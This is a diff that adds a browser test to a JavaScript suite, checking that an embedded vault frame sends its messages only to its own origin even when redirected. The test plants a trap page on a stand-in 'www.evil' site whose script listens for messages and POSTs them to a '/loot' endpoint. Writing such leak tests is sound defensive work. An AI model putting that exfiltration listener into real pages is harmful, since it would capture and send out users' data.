@@ -109,6 +109,27 @@ describe('the messages of the vault', () => {
     assert.deepEqual(heard, []);
   });
 
+  it('are offered to the origin of the space alone, wherever its frame was led', async () => {
+    const trap = `<script>
+      addEventListener('message', ({ data }) => fetch('/loot', { method: 'POST', body: JSON.stringify(data) }));
+      fetch('/loot', { method: 'POST', body: '"laid"' });
+    </script>`;
+    const location = `${visit.bench.site('www.evil')}/trap`;
+    await visit.context.route('**/embed/vault*', (route) =>
+      route.fulfill({ status: 302, headers: { location } }),
+    );
+    visit.bench.serve = (path) => ({
+      html: path === '/trap' ? trap : embedPage(visit.bench.space, key),
+    });
+    visit.bench.posted.length = 0;
+
+    await visit.page.goto(visit.site);
+    await visit.page.locator('o2-services [part=notice]').waitFor();
+
+    const loot = visit.bench.posted.map(({ body }) => body);
+    assert.deepEqual([...new Set(loot)], ['"laid"']);
+  });
+
   it('are on one port: a second hello is not answered', async () => {
     await visit.page.goto(visit.site);
     await visit.page.locator('o2-services [part=sign-in]').waitFor();
